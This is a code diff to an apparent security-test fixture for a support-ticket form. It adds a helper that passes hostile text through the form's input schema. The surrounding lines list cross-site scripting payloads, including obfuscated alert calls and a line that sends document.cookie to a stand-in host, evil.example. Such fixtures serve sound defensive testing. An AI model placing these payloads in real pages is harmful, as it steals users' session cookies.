@@ -1,3 +1,5 @@
+import { newTicketSchema } from "./ticket-input.ts";
+
 /** Injection attempts for every context in which text is rendered. */
 const SCRIPTS = ["alert(1)", "fetch('//evil.example?c='+document.cookie)", "self['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)"];
 
@@ -106,3 +108,17 @@ const QUERIES = [
 ];
 
 export const HOSTILE_TEXTS: readonly string[] = [...SCRIPTS.flatMap(markup), ...HEADERS.flatMap(headers), ...UNICODE, ...CELLS, ...QUERIES];
+
+/** The text as the form stores it. */
+export function submitted(text: string) {
+  const fields = {
+    email: "rina@example.com",
+    full_name: `a${text.slice(0, 90)}`,
+    contact_number: "+88017123456",
+    subject: `a${text.slice(0, 140)}`,
+    category: "Price",
+    question: `a${text}`,
+  };
+  const { full_name: fullName, subject, question: body } = newTicketSchema.parse(fields);
+  return { fullName, subject, body };
+}
